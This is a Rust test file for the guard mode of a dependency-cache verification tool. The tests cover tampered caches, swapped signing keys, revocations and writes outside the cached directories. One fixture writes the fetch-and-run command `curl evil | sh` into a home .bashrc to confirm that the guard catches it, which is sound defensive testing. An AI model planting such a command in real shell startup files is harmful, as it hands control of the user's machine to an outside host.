//! `verify --guard`: what the guard has in memory decides, and what it sees outside the roots with it.

use std::fs;

use super::{Guarded, alone};
use crate::harness::{POLICY, Project, key};

#[test]
fn what_was_sealed_is_trusted() {
    let guarded = Guarded::new();
    guarded.start(&[]);
    guarded.restore();
    let verified = guarded.verify_guarded(&["--explain"]);
    verified.expect(0, &[]);
    let rules = verified.json["rules"].as_array().unwrap();
    let first: Vec<_> = rules.iter().take(2).map(|rule| (rule["code"].as_str().unwrap(), &rule["met"])).collect();
    assert_eq!(first, [("policy-changed", &true.into()), ("stray-write", &true.into())]);
    assert!(rules.iter().any(|rule| rule["code"] == "stale-lockfile" && rule["met"] == true), "{rules:#?}");
    assert_eq!(rules[0]["origin"], "--guard");
}

#[test]
fn a_changed_cache_is_refused_as_ever() {
    let guarded = Guarded::new();
    guarded.start(&[]);
    guarded.restore();
    guarded.write("deps/pkg/index.js", "module.exports = 2\n");
    guarded.write("deps/pkg/extra.js", "");
    guarded.verify_guarded(&[]).expect(11, &["digest-mismatch", "extra-entry"]);
}

#[test]
fn the_policy_from_before_decides() {
    let guarded = Guarded::new();
    guarded.start(&[]);
    guarded.restore();
    // The attacker's key under the trusted name, and a seal by it.
    guarded.write("keys/job.pub", key("other").public().to_pem());
    guarded.write("keys/other.pub", key("job").public().to_pem());
    fs::remove_dir_all(guarded.path(".cacheseal")).unwrap();
    guarded.write("deps/pkg/index.js", "evil\n");
    let other = guarded.private_key("other");
    guarded.json(&["seal", "deps", "--key", other.to_str().unwrap()]).expect(0, &[]);
    // By the checkout as it is now, all is well.
    guarded.json(&["verify", "deps", "--gate", "exact", "--trust-checkout"]).expect(0, &[]);
    guarded.verify_guarded(&[]).expect(15, &["policy-changed", "signer-not-accepted"]);
}

#[test]
fn a_policy_that_is_gone_still_decides() {
    let guarded = Guarded::new();
    guarded.start(&[]);
    guarded.restore();
    fs::remove_file(guarded.path("cacheseal.toml")).unwrap();
    guarded.verify_guarded(&[]).expect(15, &["policy-changed"]);
    guarded.write("deps/extra", "");
    guarded.verify_guarded(&[]).expect(15, &["policy-changed", "extra-entry"]);
}

#[test]
fn a_lockfile_that_came_with_the_cache_does_not_count() {
    let guarded = Guarded::new();
    // A cache that was sealed for another lockfile brings that lockfile along.
    guarded.restore();
    guarded.write("deps.lock", "left-pad 6.6.6\n");
    guarded.seal();
    fs::remove_dir_all(guarded.outside("cache")).unwrap();
    guarded.save();
    guarded.write("deps.lock", "left-pad 1.3.0\n");
    guarded.start(&[]);
    guarded.restore();
    guarded.write("deps.lock", "left-pad 6.6.6\n");
    guarded.verify("exact").expect(0, &[]);
    let verified = guarded.verify_guarded(&[]);
    verified.expect(15, &["stray-write", "stale-lockfile"]);
    let found = verified.found(&guarded.canonical_root().join("deps.lock"));
    assert!(found.ends_with("decides which dependencies belong into a cache"), "{found}");
}

#[test]
fn a_lockfile_that_was_not_there_is_not_taken_from_the_restore() {
    let guarded = Guarded::new();
    fs::remove_file(guarded.path("deps.lock")).unwrap();
    guarded.start(&[]);
    guarded.restore();
    guarded.write("deps.lock", "left-pad 1.3.0\n");
    guarded.verify_guarded(&[]).expect(15, &["stray-write", "stale-lockfile"]);
}

#[test]
fn revocations_of_before_and_those_named_later_add_up() {
    let guarded = Guarded::new();
    let list = format!("version = 1\n[[revoked]]\nkeyid = \"{}\"\nreason = \"leaked\"\n", key("job").public().id());
    let named = guarded.outside("revoked.toml");
    guarded.start(&["--allow", named.to_str().unwrap()]);
    guarded.restore();
    guarded.verify_guarded(&[]).expect(0, &[]);
    fs::write(&named, "version = 2\n").unwrap();
    let with = ["--revocations", named.to_str().unwrap()];
    guarded.verify_guarded(&with).expect_error(5, "malformed-policy");
    fs::write(&named, &list).unwrap();
    guarded.verify_guarded(&with).expect(10, &["revoked"]);
    // It stays so: nothing takes back what a list says.
    guarded.verify_guarded(&[]).expect(10, &["revoked"]);

    let guarded = Guarded::new();
    guarded.write("keys/revoked.toml", &list);
    guarded.start(&[]);
    guarded.restore();
    guarded.write("keys/revoked.toml", "version = 1\n");
    guarded.verify_guarded(&[]).expect(15, &["policy-changed", "revoked"]);
}

#[test]
fn a_miss_is_one_only_if_nothing_else_was_written() {
    let guarded = Guarded::new();
    guarded.start(&[]);
    guarded.verify_guarded(&[]).expect(3, &["nothing-restored"]);
    let allowed = guarded.verify_guarded(&["--allow-miss"]);
    assert_eq!((allowed.code, &allowed.json["verdict"]), (Some(0), &"miss".into()));
    // A cache of stray files only, with its roots absent.
    fs::write(guarded.home().join(".bashrc"), "curl evil | sh\n").unwrap();
    guarded.verify_guarded(&["--allow-miss"]).expect(15, &["stray-write", "nothing-restored"]);
}

#[test]
fn stray_writes_outrank_every_other_reason() {
    let guarded = Guarded::new();
    guarded.start(&[]);
    guarded.restore();
    guarded.write("deps/extra.js", "");
    guarded.verify_guarded(&[]).expect(11, &["extra-entry"]);
    fs::remove_file(guarded.path(".cacheseal/deps/seal.json")).unwrap();
    guarded.verify_guarded(&[]).expect(10, &["no-seal"]);
    fs::write(guarded.home().join(".bashrc"), "x").unwrap();
    guarded.verify_guarded(&[]).expect(15, &["stray-write", "no-seal"]);
}

#[test]
fn a_second_restore_must_not_touch_what_the_first_brought() {
    let more = "\n[cache.other]\nroots = [\"other\"]\n";
    let policy = format!("{POLICY}{more}");
    let guarded = Guarded::of(Project::empty(&policy));
    guarded.fill();
    guarded.write("other/lib.js", "1");
    guarded.seal();
    let other = |more: &[&str]| guarded.json(&[&["verify", "other", "--gate", "any", "--guard"], more].concat());
    let seal = ["seal", "other", "--key", guarded.private_key("job").to_str().unwrap()].map(str::to_owned);
    guarded.json(&seal.each_ref().map(String::as_str)).expect(0, &[]);
    let kept = guarded.outside("kept");
    fs::create_dir(&kept).unwrap();
    fs::rename(guarded.path("other"), kept.join("other")).unwrap();
    fs::rename(guarded.path(".cacheseal/other"), kept.join("seal")).unwrap();
    guarded.save();
    let restore_other = || {
        crate::harness::copy_tree(&kept.join("other"), &guarded.path("other"));
        crate::harness::copy_tree(&kept.join("seal"), &guarded.path(".cacheseal/other"));
    };
    guarded.start(&["other"]);
    guarded.restore();
    guarded.verify_guarded(&[]).expect(0, &[]);
    restore_other();
    other(&[]).expect(0, &[]);
    // Both verified, both watched.
    guarded.check().expect(0, &[]);
    for (path, told) in [
        ("deps/pkg/index.js", "belongs to the cache `deps`, which was verified before"),
        (".cacheseal/deps/seal.json", "belongs to the cache `deps`, which was verified before"),
        ("other/lib.js", "belongs to the cache `other`, which was verified before"),
    ] {
        let (at, before) = (guarded.canonical_root().join(path), fs::read(guarded.path(path)).unwrap());
        fs::write(&at, before).unwrap();
        let found = guarded.check().found(&at);
        assert!(found.ends_with(told), "{found}");
    }
    guarded.run(&["guard", "stop"]);

    // The other way round: the second archive also holds a file of the first cache.
    for path in ["deps", ".cacheseal", "other"] {
        fs::remove_dir_all(guarded.path(path)).unwrap();
    }
    fs::remove_dir_all(guarded.home().join("store")).unwrap();
    guarded.start(&["other"]);
    guarded.restore();
    guarded.verify_guarded(&[]).expect(0, &[]);
    restore_other();
    guarded.write("deps/tool", "#!/bin/sh\nevil\n");
    let refused = other(&[]);
    refused.expect(15, &["stray-write"]);
    assert_eq!(refused.places(), [guarded.canonical_root().join("deps/tool").to_str().unwrap().to_owned()].into());
}

#[test]
fn a_refused_cache_is_disposed_of_by_the_guard() {
    for (action, left) in [("keep", true), ("quarantine", false), ("purge", false)] {
        let guarded = Guarded::new();
        guarded.start(&[]);
        guarded.restore();
        guarded.write("deps/extra.js", "");
        guarded.verify_guarded(&["--on-refusal", action]).expect_of(action, 11, &["extra-entry"]);
        assert_eq!(guarded.path("deps").exists(), left, "{action}");
        assert_eq!(guarded.path(".cacheseal/deps").exists(), left, "{action}");
        if left {
            guarded.check().expect_of(action, 15, &["unverified-roots"]);
            continue;
        }
        // What the guard has moved is no stray write.
        guarded.check().expect_of(action, 0, &[]);
        fs::write(guarded.home().join(".bashrc"), "").unwrap();
        guarded.check().expect_of(action, 15, &["stray-write"]);
    }
}

#[test]
fn what_was_set_aside_stays_as_it_was() {
    let guarded = Guarded::new();
    guarded.start(&[]);
    guarded.restore();
    guarded.write("deps/extra.js", "");
    guarded.verify_guarded(&["--on-refusal", "quarantine"]).expect(11, &["extra-entry"]);
    guarded.check().expect(0, &[]);
    let at = guarded.canonical_root().join(".cacheseal-refused-1/deps/extra.js");
    fs::write(&at, "planted where nobody looks\n").unwrap();
    let found = guarded.check().found(&at);
    assert!(found.ends_with("belongs to a cache that was refused and set aside"), "{found}");
}

#[test]
fn what_strays_is_not_forgotten_when_a_cache_is_disposed_of() {
    let guarded = Guarded::new();
    guarded.start(&[]);
    guarded.restore();
    guarded.write("deps/extra.js", "");
    fs::write(guarded.home().join(".bashrc"), "").unwrap();
    guarded.verify_guarded(&["--on-refusal", "purge"]).expect(15, &["stray-write", "extra-entry"]);
    assert!(!guarded.path("deps").exists());
    assert!(guarded.check().codes().contains("stray-write"));
}

#[test]
fn the_setup_is_told_as_without_a_guard() {
    let more = "\n[cache.other]\nroots = [\"other\"]\n";
    let guarded = Guarded::of(Project::empty(&format!("{POLICY}{more}")));
    guarded.start(&[]);
    let verify = |cache: &str, gate: &str| guarded.json(&["verify", cache, "--gate", gate, "--guard"]);
    verify("deps", "none").expect_error(5, "unknown-gate");
    verify("none", "any").expect_error(5, "unknown-cache");
    // In the policy, but the guard was not told that it will be restored.
    verify("other", "any").expect_error(2, "usage");
    for pin in ["--trust-checkout", "--policy-sha256=00"] {
        guarded.json(&["verify", "deps", "--gate", "any", "--guard", pin]).expect_error_of(pin, 2, "usage");
    }
}

#[test]
fn roots_must_be_empty_before() {
    for place in ["deps/x", ".cacheseal/deps/seal.json", "../home/store/x"] {
        let guarded = Guarded::new();
        guarded.write(place, "left over");
        guarded.try_start(&[]).expect_error_of(place, 5, "root-not-empty");
        // A guard that did not start holds no name.
        guarded.check().expect_of(place, 15, &["guard-gone"]);
        guarded.start(&["--allow-filled"]);
    }
    // Empty directories are what a miss leaves.
    let guarded = Guarded::new();
    fs::create_dir(guarded.path("deps")).unwrap();
    fs::create_dir(guarded.path(".cacheseal")).unwrap();
    guarded.start(&[]);
    // An empty seal is not.
    let guarded = Guarded::new();
    fs::create_dir_all(guarded.path(".cacheseal/deps")).unwrap();
    guarded.try_start(&[]).expect_error(5, "root-not-empty");
    // Nor is something that is no directory.
    for place in ["deps", "../home/store"] {
        let guarded = Guarded::new();
        std::os::unix::fs::symlink("/nowhere", guarded.path(place)).unwrap();
        guarded.try_start(&[]).expect_error_of(place, 5, "root-not-empty");
    }
}

#[test]
fn what_cannot_be_watched_is_an_error_of_the_setup() {
    let guarded = Guarded::of(Project::empty(POLICY));
    let start = |cache: &str, more: &[&str]| {
        let mut arguments = alone();
        arguments[2] = cache.to_owned();
        let arguments: Vec<_> = arguments.iter().map(String::as_str).chain(more.iter().copied()).collect();
        guarded.json(&arguments)
    };
    start("none", &[]).expect_error(5, "unknown-cache");
    start("deps", &["deps"]).expect_error(2, "usage");
    start("deps", &["--root", "/x=none"]).expect_error(2, "usage");
    start("deps", &["--root", "/x=deps", "--root", "/y=deps"]).expect_error(2, "usage");
    start("deps", &["--root", "/x"]).expect_error(2, "usage");
    // Who takes home for a root has switched the guard off.
    start("deps", &["--allow-filled", "--root", "..=deps"]).expect_error(2, "usage");
    start("deps", &["--allow-filled", "--root", "../home=deps"]).expect_error(2, "usage");
    start("deps", &["--max-lifetime", "2d"]).expect_error(2, "usage");
    start("deps", &["--max-lifetime", "0m"]).expect_error(2, "usage");
    fs::remove_file(guarded.path("keys/job.pub")).unwrap();
    start("deps", &[]).expect_error(5, "no-key");
}
